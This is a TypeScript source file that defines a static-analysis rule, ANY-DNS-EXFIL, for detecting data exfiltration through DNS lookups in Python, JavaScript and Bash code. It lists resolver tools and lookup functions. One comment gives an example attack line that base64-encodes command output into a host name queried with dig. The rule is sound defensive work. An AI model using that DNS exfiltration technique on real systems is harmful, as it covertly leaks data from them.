import { namesOf } from '../matching/lists.ts';
import { callsTo, isRepeated } from '../matching/names.ts';
import { HOLE, TAINT, textsOf } from '../program/value.ts';
import type { Hit } from '../rule.ts';
import { defineRule } from '../rule.ts';

const LOOKUPS = namesOf(
  'socket.gethostbyname socket.gethostbyname_ex socket.getaddrinfo dns.* dns.promises.* dns.resolver.*',
);

const RESOLVERS = namesOf('dig nslookup host drill kdig delv ping ping6 getent');
/** A part that is not known, and behind it the rest of a host name. */
const BUILT = new RegExp(`${HOLE}[^ ]{0,200}\\.[a-z]{2,}\\.?$`);

/**
 * A secret or a value of the environment put into a name that is looked up; looking up one name after the other that is
 * put together.
 *
 * Left alone: Looking up names that are written in the program.
 */
export default defineRule({
  id: 'ANY-DNS-EXFIL',
  version: 3,
  title: { en: 'Sends data in host names', ja: 'ホスト名による持ち出し' },
  severity: 'High',
  languages: ['Python', 'JavaScript', 'Bash'],
  cwe: [200],
  attack: ['T1048.003'],
  forbids: {
    en: 'A secret or a value of the environment put into a name that is looked up; looking up one name after the other that is put together.',
    ja: '秘密や環境変数の値を含む名前の問い合わせ。組み立てた名前を次々に問い合わせること。',
  },
  allows: {
    en: 'Looking up names that are written in the program.',
    ja: 'プログラムに書かれた名前の問い合わせ。',
  },
  message: {
    en: 'The program sends data away in the names that it looks up.',
    ja: '問い合わせる名前にデータを載せて持ち出します。',
  },
  remedy: { en: 'Leave it out.', ja: '取り除いてください。' },
  needs: [LOOKUPS, RESOLVERS],
  *check(program): Iterable<Hit> {
    for (const { args, span, context } of callsTo(program, LOOKUPS)) {
      const secret = args.some(({ taint }) => (taint & (TAINT.Environment | TAINT.Secret)) !== 0);
      const piecewise =
        isRepeated(program, { context }) && args.some((arg) => textsOf(arg).some((name) => BUILT.test(name)));
      if (secret || piecewise) yield { span };
    }
    // The output of commands as a part of a name: `dig "$(id | base64).example.org"`.
    for (const { name, args, substitutions, span } of program.commands) {
      if (name === undefined || !RESOLVERS.has(name) || substitutions.length === 0) continue;
      if (args.some((arg) => textsOf(arg).some((word) => BUILT.test(word)))) yield { span };
    }
  },
});
